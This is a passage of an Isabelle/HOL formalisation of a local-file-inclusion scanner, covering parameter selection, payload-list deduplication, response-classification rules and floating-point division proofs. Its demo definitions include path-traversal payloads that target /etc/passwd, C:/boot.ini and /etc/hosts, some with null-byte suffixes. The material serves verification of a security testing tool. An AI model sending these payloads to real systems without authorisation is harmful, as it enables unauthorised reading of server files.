        length (filter vulnerable (probes pf p (lookup_or_null ovs p) bS bL k (testUrls u p L))) \<rparr>
    # all_summaries pf u ovs bS bL L (k + length L) ps"

text \<open>
  The parts of a scan of the parsed target URL \<open>u\<close>: the parameters tested, the
  baseline, the results, the parameter summaries and the requests. \<open>scan_ready\<close> holds
  when the checks that precede the loops pass; a scan returns a summary exactly then.
\<close>

definition scan_params :: "popup_state \<Rightarrow> URL \<Rightarrow> string list" where
  "scan_params ps u = paramsToTest (lfiParam ps) u"

definition scan_baseline :: "platform \<Rightarrow> URL \<Rightarrow> int option \<times> int option" where
  "scan_baseline pf u = fst (fetchBaseline pf u initial_state)"

definition scan_results :: "platform \<Rightarrow> popup_state \<Rightarrow> URL \<Rightarrow> LfiSingleResult list" where
  "scan_results pf ps u =
    all_probes pf u (originalValues u (scan_params ps u) Map.empty)
      (fst (scan_baseline pf u)) (snd (scan_baseline pf u)) (payloadList_of ps) 1 (scan_params ps u)"

definition scan_summaries :: "platform \<Rightarrow> popup_state \<Rightarrow> URL \<Rightarrow> ParameterSummary list" where
  "scan_summaries pf ps u =
    all_summaries pf u (originalValues u (scan_params ps u) Map.empty)
      (fst (scan_baseline pf u)) (snd (scan_baseline pf u)) (payloadList_of ps) 1 (scan_params ps u)"

definition scan_log :: "popup_state \<Rightarrow> URL \<Rightarrow> URL list" where
  "scan_log ps u = u # concat (map (\<lambda>p. map fst (testUrls u p (payloadList_of ps))) (scan_params ps u))"

definition scan_ready :: "platform \<Rightarrow> popup_state \<Rightarrow> URL \<Rightarrow> bool" where
  "scan_ready pf ps u =
    (targetUrl_of ps \<noteq> [] \<and> URL_new pf (targetUrl_of ps) = Some u \<and> wordlist ps \<noteq> []
     \<and> scan_params ps u \<noteq> [])"

section \<open>The classifier's rules, in the specification's words\<close>

text \<open>
  Rule 2 applies when the baseline length is known and positive and the length differs
  from it by more than 30 percent of it; rule 3 applies when the baseline status is known
  and the status differs from it. \<open>length_delta_rule\<close> is rule 2 with the quotient
  taken exactly, \<open>double_delta_rule\<close> is rule 2 with the quotient and the threshold
  as doubles.
\<close>

definition length_delta_rule :: "int option \<Rightarrow> int \<Rightarrow> bool" where
  "length_delta_rule baselineLength len =
    (case baselineLength of
       None \<Rightarrow> False
     | Some b \<Rightarrow> 0 < b \<and> \<bar>of_int len - of_int b\<bar> / of_int b > (3 / 10 :: rat))"

definition double_delta_rule :: "int option \<Rightarrow> int \<Rightarrow> bool" where
  "double_delta_rule baselineLength len =
    (case baselineLength of
       None \<Rightarrow> False
     | Some b \<Rightarrow> 0 < b \<and> double_div (nat \<bar>len - b\<bar>) (nat b) > double_div 3 10)"

definition status_rule :: "int option \<Rightarrow> int \<Rightarrow> bool" where
  "status_rule baselineStatus st =
    (case baselineStatus of None \<Rightarrow> False | Some b \<Rightarrow> st \<noteq> b)"

section \<open>A small platform and popup state for concrete runs\<close>

text \<open>
  The target \<open>https://example.com/index.php?file=home.php\<close> as the only URL that parses,
  a network given by the function \<open>f\<close>, and a popup that asks for the parameter \<open>file\<close>
  with the first three payloads of a four-entry wordlist.
\<close>

definition demo_url :: URL where
  "demo_url = \<lparr> base = ''https://example.com/index.php'',
                searchParams = [(''file'', ''home.php'')], hash = [] \<rparr>"

definition demo_platform :: "(nat \<Rightarrow> URL \<Rightarrow> Response option) \<Rightarrow> platform" where
  "demo_platform f =
    \<lparr> URL_new = (\<lambda>s. if s = ''https://example.com/index.php?file=home.php''
                      then Some demo_url else None),
      fetch = f \<rparr>"

definition demo_popup :: popup_state where
  "demo_popup =
    \<lparr> lfiUrl = '' https://example.com/index.php?file=home.php'', url = [],
      lfiParam = ''file'',
      wordlist = [''../etc/passwd'', ''/etc/passwd'', ''C:/boot.ini'', ''/etc/hosts''],
      payloadCap = 3 \<rparr>"

definition respond :: "int \<Rightarrow> string \<Rightarrow> Response option" where
  "respond code body = Some \<lparr> http_status = code, body_text = Some body \<rparr>"

text \<open>
  A second platform, for parameter discovery: \<open>http://h/?%20id=1&id=2&=3&page=4\<close> has
  the keys \<open>" id"\<close>, \<open>"id"\<close>, \<open>""\<close> and \<open>"page"\<close>, and \<open>http://h/?%20=1\<close> has the
  single key \<open>" "\<close>.
\<close>

definition demo2_url :: URL where
  "demo2_url = \<lparr> base = ''http://h/'',
                 searchParams = [('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''4'')],
                 hash = [] \<rparr>"

definition demo3_url :: URL where
  "demo3_url = \<lparr> base = ''http://h/'', searchParams = [('' '', ''1'')], hash = [] \<rparr>"

definition demo2_platform :: "(nat \<Rightarrow> URL \<Rightarrow> Response option) \<Rightarrow> platform" where
  "demo2_platform f =
    \<lparr> URL_new = (\<lambda>s. if s = ''http://h/?%20id=1&id=2&=3&page=4'' then Some demo2_url
                      else if s = ''http://h/?%20=1'' then Some demo3_url
                      else None),
      fetch = f \<rparr>"

definition demo2_popup :: popup_state where
  "demo2_popup =
    \<lparr> lfiUrl = [], url = ''http://h/?%20id=1&id=2&=3&page=4'', lfiParam = '' '',
      wordlist = [''/etc/passwd'', ''C:/boot.ini''], payloadCap = 500 \<rparr>"

definition demo3_popup :: popup_state where
  "demo3_popup =
    \<lparr> lfiUrl = ''http://h/?%20=1'', url = [], lfiParam = [],
      wordlist = [''/etc/passwd'', ''C:/boot.ini''], payloadCap = 500 \<rparr>"

section \<open>Parameter selection, in the specification's words\<close>

text \<open>
  The specification's rule: an explicit non-empty name is the only parameter tested;
  otherwise the parameters are the query-string keys of the target URL, blank names
  dropped and duplicates removed.
\<close>

definition params_as_specified :: "string \<Rightarrow> URL \<Rightarrow> string list" where
  "params_as_specified explicit u =
    (if explicit \<noteq> [] then [explicit]
     else first_seen (filter (\<lambda>n. trim n \<noteq> []) (searchParams_keys (searchParams u))))"

section \<open>Properties\<close>

subsection \<open>Deduplication\<close>

lemma set_Array_from_Set: "set (Array_from_Set acc xs) = set acc \<union> set xs"
  by (induction xs arbitrary: acc) (auto simp: Set_add_def)

lemma distinct_Array_from_Set: "distinct acc \<Longrightarrow> distinct (Array_from_Set acc xs)"
  by (induction xs arbitrary: acc) (auto simp: Set_add_def)

lemma Array_from_Set_known:
  "set xs \<subseteq> set acc \<Longrightarrow> Array_from_Set acc xs = acc"
  by (induction xs arbitrary: acc) (auto simp: Set_add_def)

lemma Array_from_Set_first_seen:
  "Array_from_Set acc xs = acc @ first_seen (filter (\<lambda>y. y \<notin> set acc) xs)"
proof (induction "length xs" arbitrary: acc xs rule: less_induct)
  case less
  show ?case
  proof (cases xs)
    case Nil
    then show ?thesis by simp
  next
    case (Cons x rest)
    have len: "length rest < length xs" using Cons by simp
    show ?thesis
    proof (cases "x \<in> set acc")
      case True
      then show ?thesis using less(1)[OF len, of acc] Cons by (simp add: Set_add_def)
    next
      case False
      have "filter (\<lambda>y. y \<notin> set (acc @ [x])) rest
              = filter (\<lambda>y. y \<noteq> x) (filter (\<lambda>y. y \<notin> set acc) rest)"
        by (induction rest) auto
      then show ?thesis using less(1)[OF len, of "acc @ [x]"] Cons False
        by (simp add: Set_add_def)
    qed
  qed
qed

lemma selected_categories_code:
  "categoriesToUse categoryIds = selected_categories (selection_of categoryIds)"
  by (cases categoryIds) (auto simp: categoriesToUse_def selected_categories_def selection_of_def)

text \<open>
  Claim C9. For every category selection, \<open>buildLfiPayloadList\<close> returns a list without
  duplicates, its entries are exactly the payloads declared by the selected categories
  (all six categories when the selection is empty or omitted), and the list is the
  categories' payload lists flattened in declaration order and deduplicated keeping the
  first occurrence.
\<close>

theorem buildLfiPayloadList_dedup_flatten:
  "distinct (buildLfiPayloadList categoryIds)
   \<and> set (buildLfiPayloadList categoryIds)
       = (\<Union>c \<in> set (selected_categories (selection_of categoryIds)). set (payloads c))
   \<and> buildLfiPayloadList categoryIds
       = first_seen (concat (map payloads (selected_categories (selection_of categoryIds))))
   \<and> length LFI_PAYLOAD_CATEGORIES = 6
   \<and> selected_categories {} = LFI_PAYLOAD_CATEGORIES"
proof -
  let ?all = "concat (map payloads (selected_categories (selection_of categoryIds)))"
  have b: "buildLfiPayloadList categoryIds = Array_from_Set [] ?all"
    by (simp add: buildLfiPayloadList_def selected_categories_code)
  have d: "distinct (Array_from_Set [] ?all)"
    by (rule distinct_Array_from_Set) simp
  have s: "set (Array_from_Set [] ?all)
             = (\<Union>c \<in> set (selected_categories (selection_of categoryIds)). set (payloads c))"
    by (simp add: set_Array_from_Set)
  have f: "Array_from_Set [] ?all = first_seen ?all"
    using Array_from_Set_first_seen[of "[]" ?all] by simp
  have n: "length LFI_PAYLOAD_CATEGORIES = 6"
    by (simp add: LFI_PAYLOAD_CATEGORIES_def)
  show ?thesis using b d s f n by (simp add: selected_categories_def)
qed

theorem buildLfiPayloadList_dedup_flatten_witness:
  "distinct (buildLfiPayloadList (Some [null_byte, null_byte]))
   \<and> set (buildLfiPayloadList (Some [null_byte, null_byte]))
       = {''../../etc/passwd%00'', ''../../etc/passwd%2500'',
          ''../../../../etc/passwd%00'', ''../../../../etc/passwd%2500''}
   \<and> buildLfiPayloadList (Some [null_byte, null_byte])
       = first_seen [''../../etc/passwd%00'', ''../../etc/passwd%2500'',
                     ''../../../../etc/passwd%00'', ''../../../../etc/passwd%2500'']"
  using buildLfiPayloadList_dedup_flatten [of "Some [null_byte, null_byte]"]
  by (simp add: selected_categories_def selection_of_def LFI_PAYLOAD_CATEGORIES_def)

subsection \<open>The loops compute the closed forms\<close>

lemma buildLfiTestUrls_parsed:
  "URL_new pf t = Some u \<Longrightarrow> buildLfiTestUrls pf t p L = Some (testUrls u p L)"
  by (simp add: buildLfiTestUrls_def testUrls_def testUrl_def Let_def)

lemma payload_loop_eq:
  "payload_loop pf p orig bS bL tus (st, pvc) = (st', pvc') \<Longrightarrow>
     st_results st' = st_results st @ probes pf p orig bS bL (length (requests st)) tus
   \<and> requests st' = requests st @ map fst tus
   \<and> currentIndex st' = currentIndex st + length tus
   \<and> perParameterSummary st' = perParameterSummary st
   \<and> pvc' = pvc + length (filter vulnerable (probes pf p orig bS bL (length (requests st)) tus))"
proof (induction tus arbitrary: st pvc)
  case Nil
  then show ?case by simp
next
  case (Cons a tus)
  obtain tu pl where a: "a = (tu, pl)" by (cases a)
  show ?case
  proof (cases "fetch pf (length (requests st)) tu")
    case None
    with Cons.prems a have
      "payload_loop pf p orig bS bL tus
         (st\<lparr>currentIndex := currentIndex st + 1, requests := requests st @ [tu]\<rparr>, pvc) = (st', pvc')"
      by (simp add: fetchWithTimeout_def)
    from Cons.IH[OF this] None a show ?thesis by simp
  next
    case (Some res)
    let ?r = "probeResult p orig bS bL tu pl res"
    from Cons.prems a Some have
      "payload_loop pf p orig bS bL tus
         (st\<lparr>currentIndex := currentIndex st + 1, requests := requests st @ [tu],
              st_results := st_results st @ [?r]\<rparr>,
          if vulnerable ?r then pvc + 1 else pvc) = (st', pvc')"
      by (simp add: fetchWithTimeout_def Let_def)
    from Cons.IH[OF this] Some a show ?thesis by simp
  qed
qed

lemma length_testUrls: "length (testUrls u p L) = length L"
  by (simp add: testUrls_def)

lemma param_loop_eq:
  assumes "URL_new pf t = Some u"
  shows "\<exists>st'. param_loop pf t ovs bS bL L ps st = Some st'
     \<and> st_results st' = st_results st @ all_probes pf u ovs bS bL L (length (requests st)) ps
     \<and> requests st' = requests st @ concat (map (\<lambda>p. map fst (testUrls u p L)) ps)
     \<and> currentIndex st' = currentIndex st + length ps * length L
     \<and> perParameterSummary st'
         = perParameterSummary st @ all_summaries pf u ovs bS bL L (length (requests st)) ps"
proof (induction ps arbitrary: st)
  case Nil
  then show ?case by simp
next
  case (Cons p ps)
  obtain st1 pvc where pl: "payload_loop pf p (lookup_or_null ovs p) bS bL (testUrls u p L) (st, 0) = (st1, pvc)"
    by (cases "payload_loop pf p (lookup_or_null ovs p) bS bL (testUrls u p L) (st, 0)")
  note e = payload_loop_eq[OF pl]
  let ?st2 = "st1\<lparr>perParameterSummary := perParameterSummary st1 @
                   [\<lparr> name = p, originalValue = lookup_or_null ovs p,
                      totalTests = length (testUrls u p L),
                      vulnerableCount = pvc \<rparr>]\<rparr>"
  from Cons.IH[of ?st2] obtain st' where
    s: "param_loop pf t ovs bS bL L ps ?st2 = Some st'"
       "st_results st' = st_results ?st2 @ all_probes pf u ovs bS bL L (length (requests ?st2)) ps"
       "requests st' = requests ?st2 @ concat (map (\<lambda>p. map fst (testUrls u p L)) ps)"
       "currentIndex st' = currentIndex ?st2 + length ps * length L"
       "perParameterSummary st'
         = perParameterSummary ?st2 @ all_summaries pf u ovs bS bL L (length (requests ?st2)) ps"
    by blast
  have "param_loop pf t ovs bS bL L (p # ps) st = Some st'"
    using s(1) pl by (simp add: buildLfiTestUrls_parsed[OF assms])
  moreover have "length (requests ?st2) = length (requests st) + length L"
    using e by (simp add: length_testUrls)
  ultimately show ?case using s(2-5) e by (simp add: length_testUrls)
qed

lemma fetchBaseline_requests:
  "requests (snd (fetchBaseline pf u st)) = requests st @ [u]
   \<and> st_results (snd (fetchBaseline pf u st)) = st_results st
   \<and> perParameterSummary (snd (fetchBaseline pf u st)) = perParameterSummary st"
  by (simp add: fetchBaseline_def fetchWithTimeout_def Let_def split: option.splits)

lemma handleRunLfi_ok:
  assumes "scan_ready pf ps u"
  shows "handleRunLfi pf ps =
     (Inr \<lparr> baseUrl = targetUrl_of ps,
            parametersTested = scan_summaries pf ps u,
            totalTests = length (scan_params ps u) * length (payloadList_of ps),
            vulnerableCount = length (filter vulnerable (scan_results pf ps u)),
            results = scan_results pf ps u \<rparr>,
      scan_log ps u)"
proof -
  let ?ovs = "originalValues u (scan_params ps u) Map.empty"
  obtain bS bL st1 where fb: "fetchBaseline pf u initial_state = ((bS, bL), st1)"
    by (cases "fetchBaseline pf u initial_state") auto
  have st1: "requests st1 = [u]" "st_results st1 = []" "perParameterSummary st1 = []"
    using fetchBaseline_requests[of pf u initial_state] fb by (simp_all add: initial_state_def)
  have u: "URL_new pf (targetUrl_of ps) = Some u" using assms by (simp add: scan_ready_def)
  from param_loop_eq[OF u, of ?ovs bS bL "payloadList_of ps" "scan_params ps u" st1]
  obtain st2 where
    s: "param_loop pf (targetUrl_of ps) ?ovs bS bL (payloadList_of ps) (scan_params ps u) st1 = Some st2"
       "st_results st2 = all_probes pf u ?ovs bS bL (payloadList_of ps) 1 (scan_params ps u)"
       "requests st2 = scan_log ps u"
       "perParameterSummary st2 = all_summaries pf u ?ovs bS bL (payloadList_of ps) 1 (scan_params ps u)"
    using st1 by (auto simp: scan_log_def)
  have b: "scan_baseline pf u = (bS, bL)" using fb by (simp add: scan_baseline_def)
  show ?thesis
    using assms fb s b
    by (simp add: handleRunLfi_def scan_ready_def scan_params_def scan_results_def
        scan_summaries_def Let_def)
qed

lemma handleRunLfi_Inr:
  assumes "handleRunLfi pf ps = (Inr summary, reqs)"
  shows "\<exists>u. scan_ready pf ps u"
  using assms
  by (auto simp: handleRunLfi_def scan_ready_def scan_params_def Let_def
      split: if_splits option.splits prod.splits)

lemma handleRunLfi_summary_iff:
  "(\<exists>summary reqs. handleRunLfi pf ps = (Inr summary, reqs)) \<longleftrightarrow> (\<exists>u. scan_ready pf ps u)"
  using handleRunLfi_Inr handleRunLfi_ok by blast

subsection \<open>Double-precision division\<close>

lemma bitlen_0: "bitlen 0 = 0" by (simp add: bitlen.simps)
lemma bitlen_numeral: "bitlen (numeral k) = Suc (bitlen (numeral k div 2))"
  by (subst bitlen.simps) simp
lemma bitlen_1: "bitlen 1 = 1" by (subst bitlen.simps) (simp add: bitlen_0)
lemma bitlen_Suc0: "bitlen (Suc 0) = 1" by (subst bitlen.simps) (simp add: bitlen_0)
lemmas double_eval = bitlen_0 bitlen_1 bitlen_Suc0 bitlen_numeral double_div_def exponent_of_def
  shl_def round_half_even_div_def Let_def

lemma three_tenths:
  "double_div 3 10 = 5404319552844595 / 18014398509481984"
  by (simp add: double_eval)

lemma bitlen_bounds: "0 < n \<Longrightarrow> 2 ^ (bitlen n - 1) \<le> n \<and> n < 2 ^ bitlen n"
proof (induction n rule: bitlen.induct)
  case (1 n)
  show ?case
  proof (cases "n div 2 = 0")
    case True
    with 1 have "n = 1" by (simp add: div_eq_0_iff) 
    then show ?thesis by (simp add: bitlen_Suc0)
  next
    case False
    with 1 have ih: "2 ^ (bitlen (n div 2) - 1) \<le> n div 2" "n div 2 < 2 ^ bitlen (n div 2)"
      by simp_all
    have pos: "0 < bitlen (n div 2)" using False by (subst bitlen.simps) simp
    have b: "bitlen n = Suc (bitlen (n div 2))" using 1(2) by (subst bitlen.simps) simp
    have "2 ^ (bitlen n - 1) = 2 * 2 ^ (bitlen (n div 2) - 1)"
      using pos b by (cases "bitlen (n div 2)") simp_all
    also have "\<dots> \<le> 2 * (n div 2)" using ih(1) by simp
    also have "\<dots> \<le> n" by simp
    finally have l: "2 ^ (bitlen n - 1) \<le> n" .
    have "n < 2 * (n div 2) + 2" by presburger
    also have "\<dots> \<le> 2 * 2 ^ bitlen (n div 2)" using ih(2) by simp
    finally have "n < 2 ^ bitlen n" using b by simp
    with l show ?thesis by simp
  qed
qed

lemma shl_ratio:
  assumes "0 < d"
  shows "(of_nat (shl n k) :: rat) / of_nat (shl d (- k)) = of_nat n / of_nat d * 2 powi k"
proof (cases "0 \<le> k")
  case True
  then show ?thesis by (simp add: shl_def power_int_def)
next
  case False
  then show ?thesis using assms by (simp add: shl_def power_int_def field_simps)
qed

lemma shl_pos: "0 < x \<Longrightarrow> 0 < shl x k"
  by (simp add: shl_def)

lemma ratio_ge_iff:
  assumes "0 < d"
  shows "shl d e \<le> shl n (- e) \<longleftrightarrow> (2 powi e :: rat) \<le> of_nat n / of_nat d"
proof -
  have "shl d e \<le> shl n (- e) \<longleftrightarrow> (of_nat (shl d e) :: rat) \<le> of_nat (shl n (- e))"
    by simp
  also have "\<dots> \<longleftrightarrow> 1 \<le> (of_nat (shl n (- e)) :: rat) / of_nat (shl d (- (- e)))"
    using shl_pos[OF assms, of e] by (simp add: le_divide_eq)
  also have "\<dots> \<longleftrightarrow> 1 \<le> (of_nat n / of_nat d :: rat) * 2 powi (- e)"
    by (simp only: shl_ratio[OF assms])
  also have "\<dots> \<longleftrightarrow> (2 powi e :: rat) \<le> of_nat n / of_nat d"
  proof -
    have "(0 :: rat) < 2 powi e" by (simp add: zero_less_power_int)
    then show ?thesis using assms by (simp add: power_int_minus field_simps)
  qed
  finally show ?thesis .
qed

lemma exponent_of_correct:
  assumes "0 < n" "0 < d"
  shows "(2 powi (exponent_of n d) :: rat) \<le> of_nat n / of_nat d
         \<and> (of_nat n / of_nat d :: rat) < 2 powi (exponent_of n d + 1)"
proof -
  let ?q = "of_nat n / of_nat d :: rat"
  let ?e0 = "int (bitlen n) - int (bitlen d)"
  note bn = bitlen_bounds[OF assms(1)] and bd = bitlen_bounds[OF assms(2)]
  have pn: "0 < bitlen n" using assms(1) by (subst bitlen.simps) simp
  have pd: "0 < bitlen d" using assms(2) by (subst bitlen.simps) simp
  have n1: "(2 powi (int (bitlen n) - 1) :: rat) \<le> of_nat n"
  proof -
    have "(2 powi (int (bitlen n) - 1) :: rat) = 2 ^ (bitlen n - 1)"
      using pn by (simp add: power_int_def nat_diff_distrib')
    also have "\<dots> = of_nat (2 ^ (bitlen n - 1))" by simp
    also have "\<dots> \<le> of_nat n" using bn by (simp only: of_nat_le_iff)
    finally show ?thesis .
  qed
  have n2: "(of_nat n :: rat) < 2 powi int (bitlen n)"
  proof -
    have "(of_nat n :: rat) < of_nat (2 ^ bitlen n)" using bn by (simp only: of_nat_less_iff)
    then show ?thesis by (simp add: power_int_def)
  qed
  have d1: "(2 powi (int (bitlen d) - 1) :: rat) \<le> of_nat d"
  proof -
    have "(2 powi (int (bitlen d) - 1) :: rat) = 2 ^ (bitlen d - 1)"
      using pd by (simp add: power_int_def nat_diff_distrib')
    also have "\<dots> = of_nat (2 ^ (bitlen d - 1))" by simp
    also have "\<dots> \<le> of_nat d" using bd by (simp only: of_nat_le_iff)
    finally show ?thesis .
  qed
  have d2: "(of_nat d :: rat) < 2 powi int (bitlen d)"
  proof -
    have "(of_nat d :: rat) < of_nat (2 ^ bitlen d)" using bd by (simp only: of_nat_less_iff)
    then show ?thesis by (simp add: power_int_def)
  qed
  have dpos: "(0 :: rat) < of_nat d" using assms(2) by simp
  have up: "?q < 2 powi (?e0 + 1)"
  proof -
    have "?q < 2 powi int (bitlen n) / of_nat d" using n2 dpos by (simp add: divide_strict_right_mono)
    also have "\<dots> \<le> 2 powi int (bitlen n) / 2 powi (int (bitlen d) - 1)"
      using d1 dpos by (intro divide_left_mono) (auto intro!: mult_pos_pos zero_less_power_int)
    also have "\<dots> = 2 powi (int (bitlen n) - (int (bitlen d) - 1))"
      by (subst power_int_diff) simp_all
    also have "int (bitlen n) - (int (bitlen d) - 1) = ?e0 + 1" by simp
    finally show ?thesis .
  qed
  have lo: "2 powi (?e0 - 1) < ?q"
  proof -
    have "?e0 - 1 = int (bitlen n) - 1 - int (bitlen d)" by simp
    then have "(2 powi (?e0 - 1) :: rat) = 2 powi (int (bitlen n) - 1 - int (bitlen d))"
      by (rule arg_cong)
    also have "\<dots> = 2 powi (int (bitlen n) - 1) / 2 powi int (bitlen d)"
      by (subst power_int_diff) simp_all
    also have "\<dots> \<le> of_nat n / 2 powi int (bitlen d)"
      using n1 by (simp add: divide_right_mono)
    also have "\<dots> < of_nat n / of_nat d"
      using d2 dpos assms(1)
      by (intro divide_strict_left_mono) (auto intro!: mult_pos_pos zero_less_power_int)
    finally show ?thesis .
  qed
  show ?thesis
  proof (cases "shl d ?e0 \<le> shl n (- ?e0)")
    case True
    then have "exponent_of n d = ?e0" by (simp add: exponent_of_def)
    moreover have "2 powi ?e0 \<le> ?q" using True by (simp only: ratio_ge_iff[OF assms(2)])
    ultimately show ?thesis using up by simp
  next
    case False
    then have e: "exponent_of n d = ?e0 - 1" by (simp add: exponent_of_def)
    have "?q < 2 powi ?e0" using False by (simp only: ratio_ge_iff[OF assms(2)] not_le)
    then show ?thesis using lo e by simp
  qed
qed


lemma of_nat_le_ratio:
  "0 < D \<Longrightarrow> ((of_nat k :: rat) \<le> of_nat N / of_nat D) = (k * D \<le> N)"
proof -
  assume D: "0 < D"
  have "((of_nat k :: rat) \<le> of_nat N / of_nat D) = ((of_nat k :: rat) * of_nat D \<le> of_nat N)"
    using D by (simp add: le_divide_eq)
  also have "\<dots> = ((of_nat (k * D) :: rat) \<le> of_nat N)" by simp
  also have "\<dots> = (k * D \<le> N)" by (simp only: of_nat_le_iff)
  finally show ?thesis .
qed

lemma ratio_le_of_nat:
  "0 < D \<Longrightarrow> ((of_nat N / of_nat D :: rat) \<le> of_nat k) = (N \<le> k * D)"
proof -
  assume D: "0 < D"
  have "((of_nat N / of_nat D :: rat) \<le> of_nat k) = ((of_nat N :: rat) \<le> of_nat k * of_nat D)"
    using D by (simp add: divide_le_eq)
  also have "\<dots> = ((of_nat N :: rat) \<le> of_nat (k * D))" by simp
  also have "\<dots> = (N \<le> k * D)" by (simp only: of_nat_le_iff)
  finally show ?thesis .
qed

lemma round_half_even_div_cases:
  "round_half_even_div N D = N div D \<or> round_half_even_div N D = N div D + 1"
  by (simp add: round_half_even_div_def Let_def)

lemma round_half_even_div_ge:
  assumes "0 < D" "k * D \<le> N"
  shows "k \<le> round_half_even_div N D"
proof -
  have "k \<le> N div D" using assms by (simp add: less_eq_div_iff_mult_less_eq)
  then show ?thesis using round_half_even_div_cases[of N D] by auto
qed

lemma round_half_even_div_le:
  assumes "0 < D" "N \<le> k * D"
  shows "round_half_even_div N D \<le> k"
proof (cases "N = k * D")
  case True
  then show ?thesis using assms(1) by (simp add: round_half_even_div_def)
next
  case False
  then have "N < k * D" using assms(2) by simp
  then have "N div D < k" using assms(1) by (simp add: div_less_iff_less_mult)
  then show ?thesis using round_half_even_div_cases[of N D] by auto
qed

lemma round_half_even_div_gt_odd:
  assumes "0 < D" "odd k"
  shows "k < round_half_even_div N D \<longleftrightarrow> 2 * k * D + D \<le> 2 * N"
proof -
  let ?q = "N div D" and ?r = "N mod D"
  have N: "?q * D + ?r = N" by simp
  have r: "?r < D" using assms(1) by simp
  have e: "2 * k * D = 2 * (k * D)" by simp
  consider (gt) "k < ?q" | (eq) "?q = k" | (lt) "?q < k" by linarith
  then show ?thesis
  proof cases
    case gt
    then have "(k + 1) * D \<le> ?q * D" by (intro mult_le_mono1) simp
    then have "k * D + D \<le> ?q * D" by simp
    then have "2 * k * D + D \<le> 2 * N" unfolding e using N by linarith
    moreover have "k < round_half_even_div N D"
      using gt round_half_even_div_cases[of N D] by auto
    ultimately show ?thesis by simp
  next
    case eq
    have "k < round_half_even_div N D \<longleftrightarrow> D \<le> 2 * ?r"
      using eq assms(2) by (auto simp: round_half_even_div_def Let_def)
    also have "\<dots> \<longleftrightarrow> 2 * k * D + D \<le> 2 * N"
    proof -
      have "k * D + ?r = N" using N eq by simp
      then show ?thesis unfolding e by linarith
    qed
    finally show ?thesis .
  next
    case lt
    then have "(?q + 1) * D \<le> k * D" by (intro mult_le_mono1) simp
    then have "?q * D + D \<le> k * D" by simp
    then have "2 * N < 2 * k * D + D" unfolding e using N r assms(1) by linarith
    moreover have "\<not> k < round_half_even_div N D"
      using lt round_half_even_div_cases[of N D] by auto
    ultimately show ?thesis by simp
  qed
qed


lemma double_div_significand:
  assumes "0 < n" "0 < d"
  defines "e \<equiv> exponent_of n d"
  defines "m \<equiv> round_half_even_div (shl n (52 - e)) (shl d (e - 52))"
  shows "double_div n d = of_nat m * 2 powi (e - 52)" "2 ^ 52 \<le> m" "m \<le> 2 ^ 53"
proof -
  let ?N = "shl n (52 - e)" and ?D = "shl d (e - 52)"
  let ?q = "of_nat n / of_nat d :: rat"
  show "double_div n d = of_nat m * 2 powi (e - 52)"
    using assms(1) by (simp add: double_div_def Let_def e_def m_def)
  have D: "0 < ?D" using assms(2) by (rule shl_pos)
  have ed: "e - 52 = - (52 - e)" by simp
  have x: "(of_nat ?N :: rat) / of_nat ?D = ?q * 2 powi (52 - e)"
    unfolding ed by (rule shl_ratio[OF assms(2)])
  note c = exponent_of_correct[OF assms(1,2), folded e_def]
  have p: "(0 :: rat) < 2 powi (52 - e)" by simp
  have "(2 powi e :: rat) * 2 powi (52 - e) \<le> ?q * 2 powi (52 - e)"
    using c p by (intro mult_right_mono) simp_all
  moreover have "(2 powi e :: rat) * 2 powi (52 - e) = 2 powi (e + (52 - e))"
    by (subst power_int_add) simp_all
  ultimately have "(of_nat (2 ^ 52) :: rat) \<le> of_nat ?N / of_nat ?D"
    unfolding x by simp
  then have "2 ^ 52 * ?D \<le> ?N" by (simp only: of_nat_le_ratio[OF D])
  then show "2 ^ 52 \<le> m" unfolding m_def by (rule round_half_even_div_ge[OF D])
  have "?q * 2 powi (52 - e) \<le> (2 powi (e + 1) :: rat) * 2 powi (52 - e)"
    using c p by (intro mult_right_mono) simp_all
  moreover have "(2 powi (e + 1) :: rat) * 2 powi (52 - e) = 2 powi (e + 1 + (52 - e))"
    by (subst power_int_add) simp_all
  ultimately have "(of_nat ?N :: rat) / of_nat ?D \<le> of_nat (2 ^ 53)"
    unfolding x by simp
  then have "?N \<le> 2 ^ 53 * ?D" by (simp only: ratio_le_of_nat[OF D])
  then show "m \<le> 2 ^ 53" unfolding m_def by (rule round_half_even_div_le[OF D])
qed

lemma double_div_gt_three_tenths:
  assumes "0 < d"
  shows "double_div 3 10 < double_div n d
           \<longleftrightarrow> (10808639105689191 / 36028797018963968 :: rat) \<le> of_nat n / of_nat d"
proof (cases "n = 0")
  case True
  have "double_div 3 10 = 5404319552844595 / 18014398509481984"
    by (simp add: double_eval)
  moreover have "double_div 0 d = 0" by (simp add: double_div_def)
  ultimately show ?thesis using True by simp
next
  case False
  then have n: "0 < n" by simp
  define e where "e = exponent_of n d"
  define m where "m = round_half_even_div (shl n (52 - e)) (shl d (e - 52))"
  let ?q = "of_nat n / of_nat d :: rat"
  note s = double_div_significand[OF n assms, folded e_def, folded m_def]
  note c = exponent_of_correct[OF n assms, folded e_def]
  have F: "double_div 3 10 = 5404319552844595 / 18014398509481984"
    by (simp add: double_eval)
  consider (hi) "- 1 \<le> e" | (mid) "e = - 2" | (lo) "e \<le> - 3" by linarith
  then show ?thesis
  proof cases
    case hi
    have "(2 powi (- 1) :: rat) \<le> 2 powi e" using hi by (intro power_int_increasing) simp_all
    then have h: "(1 / 2 :: rat) \<le> 2 powi e" by (simp add: power_int_minus)
    then have q: "1 / 2 \<le> ?q" using c by linarith
    have "(2 powi e :: rat) = of_nat (2 ^ 52) * 2 powi (e - 52)"
      by (subst power_int_diff) simp_all
    also have "\<dots> \<le> of_nat m * 2 powi (e - 52)"
      using s(2) by (intro mult_right_mono) (simp_all only: of_nat_le_iff zero_le_power_int zero_le_numeral)
    finally have "1 / 2 \<le> double_div n d" using h s(1) by simp
    then have "double_div 3 10 < double_div n d" unfolding F by linarith
    moreover have "(10808639105689191 / 36028797018963968 :: rat) \<le> ?q" using q by linarith
    ultimately show ?thesis by blast
  next
    case lo
    have "(2 powi (e + 1) :: rat) \<le> 2 powi (- 2)" using lo by (intro power_int_increasing) simp_all
    then have h: "(2 powi (e + 1) :: rat) \<le> 1 / 4" by (simp add: power_int_minus)
    then have q: "?q < 1 / 4" using c by linarith
    have "of_nat m * 2 powi (e - 52) \<le> (of_nat (2 ^ 53) :: rat) * 2 powi (e - 52)"
      using s(3) by (intro mult_right_mono) (simp_all only: of_nat_le_iff zero_le_power_int zero_le_numeral)
    also have "\<dots> = 2 powi (e + 1)"
    proof -
      have "(2 powi (e + 1) :: rat) = 2 powi (53 + (e - 52))" by (rule arg_cong) simp
